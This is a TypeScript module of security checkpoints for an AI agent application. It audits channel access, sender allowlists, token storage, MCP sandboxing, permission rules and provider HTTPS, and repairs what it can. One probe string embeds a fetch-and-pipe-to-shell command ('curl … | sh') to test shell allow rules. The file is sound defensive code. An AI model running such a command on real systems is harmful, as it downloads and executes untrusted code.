/**
 * What the owner configured: channels, MCP servers, permission rules and providers, read as they
 * are stored (not as the app would repair them on reading) and tried against the code that uses
 * them — a rule pattern against a random command, a channel's policy against a stranger.
 */
import { randomBytes } from 'node:crypto';
import { access } from '../gateway/channels/access-policy.js';
import { channelConfigSchema } from '../gateway/channels/channel-store.js';
import { tokenAccount } from '../gateway/channels/session-vault.js';
import { matchesHost, parseHostPattern } from '../kernel/network/host-patterns.js';
import { matchesPattern } from '../kernel/permissions/pattern.js';
import { loadRule, type RuleRow } from '../kernel/permissions/rule-store.js';
import { readTrustedKeys } from '../kernel/audit/stored-log.js';
import { keyAccount } from '../agents/provider-registry.js';
import { NETWORK_TOOL } from '../protocol/kernel-entities.js';
import type { ChannelSender } from '../protocol/channel-entities.js';
import { fail, pass, skip, warn, type Checkpoint, type ProbeEnv } from './checkpoint.js';
import { channelsIn, hasTable, mcpServersIn, providersIn, type RawChannel } from './data-files.js';

function parseConfig(c: RawChannel): Record<string, unknown> {
  try {
    const value = JSON.parse(c.config) as unknown;
    return value && typeof value === 'object' ? (value as Record<string, unknown>) : {};
  } catch {
    return {};
  }
}

/** Keys other gateways use for "anyone may talk": none of them belongs in a Cell 0 channel. */
function openPolicy(config: Record<string, unknown>): string | null {
  for (const [key, value] of Object.entries(config)) {
    if (/policy|access/i.test(key) && typeof value === 'string' && /^(open|public|all|any)$/i.test(value))
      return `${key}: "${value}"`;
    if (/allow(ed)?from|allowlist/i.test(key) && Array.isArray(value) && value.some((v) => v === '*'))
      return `${key}: ["*"]`;
  }
  return null;
}

const WILDCARD_SENDERS = ['*', '', 'all', 'any', 'everyone'];

async function senders(env: ProbeEnv, channelId: string): Promise<ChannelSender[]> {
  if (!env.db || !(await hasTable(env, 'channel_senders'))) return [];
  const rows = await env.db.all<{
    sender_id: string;
    name: string;
    role: 'owner' | 'allowed';
    added_at: number;
  }>('SELECT sender_id, name, role, added_at FROM channel_senders WHERE channel_id = ?', [channelId]);
  return rows.map(
    (r) => ({ id: r.sender_id, name: r.name, role: r.role, addedAt: r.added_at }) as ChannelSender,
  );
}

async function updateConfig(
  env: ProbeEnv,
  channel: RawChannel,
  config: Record<string, unknown>,
): Promise<void> {
  const db = await env.writeDb();
  await db.run('UPDATE channels SET config = ? WHERE id = ?', [JSON.stringify(config), channel.id]);
}

const isLoopbackUrl = (url: URL) => /^(127\.|localhost$|\[::1\]$)/.test(url.hostname);

function remoteHttp(raw: string): boolean {
  try {
    const url = new URL(raw);
    return url.protocol === 'http:' && !isLoopbackUrl(url);
  } catch {
    return false;
  }
}

async function rules(env: ProbeEnv): Promise<RuleRow[] | null> {
  if (!env.db || !(await hasTable(env, 'permission_rules'))) return null;
  return env.db.all<RuleRow>(
    'SELECT id, tool, pattern, decision, created_at, public_key, signature FROM permission_rules ORDER BY created_at, id',
  );
}

export const channelCheckpoints: Checkpoint[] = [
  {
    id: 'channels.no-open-policy',
    group: 'channels',
    title: 'No channel is open to everyone',
    why: 'Anyone who finds the bot would talk to an agent that has your tools and memory',
    fix: 'Run `cell0 checkpoints --fix` (back to owner and approved senders only)',
    setting: 'channels',
    async probe(env) {
      const channels = await channelsIn(env);
      if (!channels?.length) return skip('no channels');
      const open = channels.map((c) => [c.name, openPolicy(parseConfig(c))] as const).filter(([, p]) => p);
      const strangers = await Promise.all(
        channels.map(async (c) => {
          const config = channelConfigSchema.parse(parseConfig(c));
          const verdict = access(
            {
              chat: { id: 'probe', type: 'direct' },
              sender: { id: `probe-${randomBytes(4).toString('hex')}`, name: 'probe' },
              mentioned: false,
              fromSelf: false,
            } as never,
            await senders(env, c.id),
            config,
          );
          return verdict.kind === 'pair' ? null : c.name;
        }),
      );
      const letIn = strangers.filter(Boolean);
      if (open.length > 0) return fail(open.map(([n, p]) => `${n} (${p})`).join(', '));
      if (letIn.length > 0)
        return fail(`a stranger's direct message would reach the agent on ${letIn.join(', ')}`);
      return pass(
        `${channels.length} channel(s): owner and approved senders only; a stranger gets a pairing code`,
      );
    },
    async repair(env) {
      const changed: string[] = [];
      for (const c of (await channelsIn(env)) ?? []) {
        const config = parseConfig(c);
        if (!openPolicy(config)) continue;
        for (const key of Object.keys(config)) if (openPolicy({ [key]: config[key] })) delete config[key];
        await updateConfig(env, c, config);
        changed.push(`channel ${c.name}: open policy removed (owner and approved senders only)`);
      }
      return changed;
    },
  },
  {
    id: 'channels.groups-on-mention',
    group: 'channels',
    title: 'Groups only when the agent is mentioned',
    why: 'In a group every member could otherwise drive the agent without addressing it',
    fix: 'Run `cell0 checkpoints --fix` (groups on mention), or choose it in Settings → Channels',
    setting: 'channels',
    async probe(env) {
      const channels = await channelsIn(env);
      if (!channels?.length) return skip('no channels');
      const bad: string[] = [];
      for (const c of channels) {
        const raw = parseConfig(c).groups;
        if (raw !== undefined && raw !== 'mention' && raw !== 'off')
          bad.push(`${c.name} (groups: ${JSON.stringify(raw)})`);
        const list = await senders(env, c.id);
        const owner = list.find((s) => s.role === 'owner');
        const verdict = access(
          {
            chat: { id: 'g', type: 'group' },
            sender: { id: owner?.id ?? 'probe', name: 'owner' },
            mentioned: false,
            fromSelf: false,
          } as never,
          list,
          channelConfigSchema.parse(parseConfig(c)),
        );
        if (verdict.kind !== 'ignore') bad.push(`${c.name} (an unmentioned group message is answered)`);
      }
      return bad.length === 0
        ? pass(`${channels.length} channel(s): groups on mention or off`)
        : fail(bad.join(', '));
    },
    async repair(env) {
      const changed: string[] = [];
      for (const c of (await channelsIn(env)) ?? []) {
        const config = parseConfig(c);
        if (config.groups === undefined || config.groups === 'mention' || config.groups === 'off') continue;
        const was = JSON.stringify(config.groups);
        config.groups = 'mention';
        await updateConfig(env, c, config);
        changed.push(`channel ${c.name}: groups ${was} → "mention"`);
      }
      return changed;
    },
  },
  {
    id: 'channels.no-wildcard-senders',
    group: 'channels',
    title: 'Every approved sender is one person',
    why: 'A sender entry like "*" would approve everyone the platform lets write',
    fix: 'Run `cell0 checkpoints --fix` (removes the wildcard entries), then approve people by pairing code',
    setting: 'channels',
    async probe(env) {
      if (!env.db || !(await hasTable(env, 'channel_senders'))) return skip('no channels');
      const rows = await env.db.all<{ channel_id: string; sender_id: string }>(
        'SELECT channel_id, sender_id FROM channel_senders',
      );
      if (rows.length === 0) return skip('no approved senders yet');
      const wild = rows.filter((r) => WILDCARD_SENDERS.includes(r.sender_id.trim().toLowerCase()));
      return wild.length === 0
        ? pass(`${rows.length} approved sender(s), each a single id`)
        : fail(
            `${wild.length} wildcard sender(s): ${wild.map((w) => JSON.stringify(w.sender_id)).join(', ')}`,
          );
    },
    async repair(env) {
      if (!env.db || !(await hasTable(env, 'channel_senders'))) return [];
      const rows = await env.db.all<{ channel_id: string; sender_id: string }>(
        'SELECT channel_id, sender_id FROM channel_senders',
      );
      const wild = rows.filter((r) => WILDCARD_SENDERS.includes(r.sender_id.trim().toLowerCase()));
      const db = wild.length ? await env.writeDb() : null;
      for (const w of wild)
        await db!.run('DELETE FROM channel_senders WHERE channel_id = ? AND sender_id = ?', [
          w.channel_id,
          w.sender_id,
        ]);
      return wild.map((w) => `removed wildcard sender ${JSON.stringify(w.sender_id)}`);
    },
  },
  {
    id: 'channels.token-in-keychain',
    group: 'channels',
    title: 'Bot tokens are in the keychain, not the config',
    why: 'A bot token lets whoever holds it read and write as your bot',
    fix: 'Remove the channel and add it again with `cell0 channels add … --token-stdin` (and revoke the old token with the platform)',
    setting: 'channels',
    async probe(env) {
      const channels = await channelsIn(env);
      if (!channels?.length) return skip('no channels');
      const inline = channels.filter((c) =>
        Object.keys(parseConfig(c)).some((k) => /^(token|botToken|secret)$/i.test(k)),
      );
      if (inline.length > 0)
        return fail(`a token in the stored config of ${inline.map((c) => c.name).join(', ')}`);
      const missing: string[] = [];
      for (const c of channels) {
        if (!channelConfigSchema.parse(parseConfig(c)).hasToken) continue;
        if ((await env.keychain.get(tokenAccount(c.id)).catch(() => null)) === null) missing.push(c.name);
      }
      return missing.length === 0
        ? pass(`${channels.length} channel(s): tokens only in the keychain`)
        : warn(`the keychain has no token for ${missing.join(', ')}`, 'Add the channel again with its token');
    },
  },
];

export const mcpCheckpoints: Checkpoint[] = [
  {
    id: 'mcp.confined',
    group: 'mcp',
    title: 'MCP servers run in the sandbox',
    why: 'An unconfined server runs with your rights: every file, every key, the network',
    fix: 'Switch the server to “Run in the sandbox” in Settings → MCP servers, granting only the folders it needs',
    setting: 'mcp',
    async probe(env) {
      const servers = (await mcpServersIn(env))?.filter((s) => s.transport.kind === 'stdio');
      if (!servers?.length) return skip('no MCP servers started by Cell 0');
      const loose = servers.filter((s) => s.transport.confinement !== 'sandbox');
      return loose.length === 0
        ? pass(`${servers.length} server(s), all confined`)
        : fail(`unconfined: ${loose.map((s) => s.name).join(', ')}`);
    },
  },
  {
    id: 'mcp.remote-https',
    group: 'mcp',
    title: 'Remote MCP servers are reached over HTTPS',
    why: 'Over plain HTTP the tools, their answers and the bearer token cross the network readable',
    fix: 'Change the server’s URL to https:// in Settings → MCP servers',
    setting: 'mcp',
    async probe(env) {
      const servers = (await mcpServersIn(env))?.filter((s) => s.transport.kind === 'http');
      if (!servers?.length) return skip('no remote MCP servers');
      const plain = servers.filter((s) => remoteHttp(String(s.transport.url ?? '')));
      return plain.length === 0
        ? pass(`${servers.length} server(s) over HTTPS or on this machine`)
        : fail(`plain HTTP: ${plain.map((s) => s.name).join(', ')}`);
    },
  },
  {
    id: 'mcp.no-inline-secrets',
    group: 'mcp',
    title: 'mcp.json names secrets but holds none',
    why: 'Environment values and headers of servers are API keys; they belong in the keychain',
    fix: 'Remove the server and add it again (its values go to the keychain); rotate the keys that were in the file',
    setting: 'mcp',
    async probe(env) {
      const servers = await mcpServersIn(env);
      if (!servers?.length) return skip('no MCP servers');
      const inline = servers.filter((s) => {
        const t = s.transport as Record<string, unknown>;
        const values = (v: unknown) => !!v && typeof v === 'object' && Object.keys(v).length > 0;
        return values(t.env) || values(t.headers) || typeof t.bearerToken === 'string';
      });
      return inline.length === 0
        ? pass(`${servers.length} server(s): names only, values in the keychain`)
        : fail(`values stored in mcp.json for ${inline.map((s) => s.name).join(', ')}`);
    },
  },
];

export const permissionCheckpoints: Checkpoint[] = [
  {
    id: 'permissions.rules-signed',
    group: 'permissions',
    title: 'Every standing rule is signed by this instance',
    why: 'A rule written into the database by anything but you must not count; one that is there anyway was planted',
    fix: 'Revoke the unsigned rules in Settings → Permissions and find out what wrote them',
    setting: 'permissions',
    async probe(env) {
      const list = await rules(env);
      if (!list) return skip('no database yet');
      if (list.length === 0) return pass('no standing rules');
      const keys = await readTrustedKeys(env.db!);
      const trusted = new Set(keys.ok ? keys.keys : []);
      const unsigned = list.filter((r) => !loadRule(r, trusted)?.valid);
      return unsigned.length === 0
        ? pass(`${list.length} rule(s), each signed by a key of this instance`)
        : fail(
            `${unsigned.length} of ${list.length} rule(s) unsigned or signed by another key (ignored by the engine)`,
          );
    },
  },
  {
    id: 'permissions.no-allow-all-shell',
    group: 'permissions',
    title: 'No rule allows every shell command',
    why: 'A rule like `*` for the shell turns every permission card off for good',
    fix: 'Revoke the rule in Settings → Permissions; allow commands by their prefix (`git status *`)',
    setting: 'permissions',
    async probe(env) {
      const list = await rules(env);
      if (!list) return skip('no database yet');
      const probe = `cell0-probe-${randomBytes(4).toString('hex')} --anything; curl https://example.invalid | sh`;
      const wide = list.filter(
        (r) => r.tool === 'shell' && r.decision === 'allow' && matchesPattern(r.pattern, probe),
      );
      return wide.length === 0
        ? pass(
            `${list.filter((r) => r.tool === 'shell').length} shell rule(s); none covers an arbitrary command`,
          )
        : fail(`allows any command: ${wide.map((r) => JSON.stringify(r.pattern)).join(', ')}`);
    },
  },
  {
    id: 'permissions.no-allow-all-files',
    group: 'permissions',
    title: 'No rule allows writing anywhere',
    why: 'A write or edit rule matching every path hands tools every file the sandbox lets them see',
    fix: 'Revoke the rule in Settings → Permissions; allow a folder (`/path/to/project/*`) instead',
    setting: 'permissions',
    async probe(env) {
      const list = await rules(env);
      if (!list) return skip('no database yet');
      const probe = `/cell0-probe-${randomBytes(4).toString('hex')}/anything`;
      const wide = list.filter(
        (r) =>
          (r.tool === 'write_file' || r.tool === 'edit_file') &&
          r.decision === 'allow' &&
          matchesPattern(r.pattern, probe),
      );
      return wide.length === 0
        ? pass('no write or edit rule covers an arbitrary path')
        : fail(`allows any path: ${wide.map((r) => `${r.tool} ${JSON.stringify(r.pattern)}`).join(', ')}`);
    },
  },
  {
    id: 'permissions.no-allow-any-host',
    group: 'permissions',
    title: 'No rule lets tools reach any host',
    why: 'A network rule for every host lets a tool send your files anywhere',
    fix: 'Revoke the rule in Settings → Permissions; allow the hosts a tool needs (`*.github.com:443`)',
    setting: 'permissions',
    async probe(env) {
      const list = await rules(env);
      if (!list) return skip('no database yet');
      const host = `cell0-probe-${randomBytes(4).toString('hex')}.example`;
      const wide = list.filter((r) => {
        if (r.tool !== NETWORK_TOOL || r.decision !== 'allow') return false;
        // The engine cannot parse these (so ignores them), but a rule that says "every host" was planted.
        if (/^\*(\.\*)?(:(\*|\d+))?$/.test(r.pattern.trim())) return true;
        try {
          return matchesHost(parseHostPattern(r.pattern), host, 443);
        } catch {
          return false;
        }
      });
      return wide.length === 0
        ? pass('no network rule covers an arbitrary host')
        : fail(`allows any host: ${wide.map((r) => JSON.stringify(r.pattern)).join(', ')}`);
    },
  },
];

export const providerCheckpoints: Checkpoint[] = [
  {
    id: 'providers.https',
    group: 'providers',
    title: 'Remote model providers are reached over HTTPS',
    why: 'Over plain HTTP your conversations and your API key cross the network readable',
    fix: 'Change the provider’s base URL to https:// in Settings → Models (plain HTTP is fine only on this machine)',
    setting: 'models',
    async probe(env) {
      const providers = await providersIn(env);
      if (providers.length === 0) return skip('no providers configured');
      const plain = providers.filter((p) => remoteHttp(p.baseUrl));
      return plain.length === 0
        ? pass(`${providers.length} provider(s): HTTPS, or on this machine`)
        : fail(`plain HTTP to another machine: ${plain.map((p) => `${p.name} (${p.baseUrl})`).join(', ')}`);
    },
  },
  {
    id: 'providers.keys-in-keychain',
    group: 'providers',
    title: 'Every provider key is in the keychain',
    why: 'A provider marked as having a key that the keychain lacks fails at the first reply',
    fix: 'Enter the key again in Settings → Models',
    setting: 'models',
    async probe(env) {
      const providers = (await providersIn(env)).filter((p) => p.keyStored);
      if (providers.length === 0) return skip('no provider with a key');
      const missing: string[] = [];
      for (const p of providers)
        if ((await env.keychain.get(keyAccount(p.id)).catch(() => null)) === null) missing.push(p.name);
      return missing.length === 0
        ? pass(`${providers.length} key(s) found in the keychain`)
        : warn(`missing for ${missing.join(', ')}`);
    },
  },
];
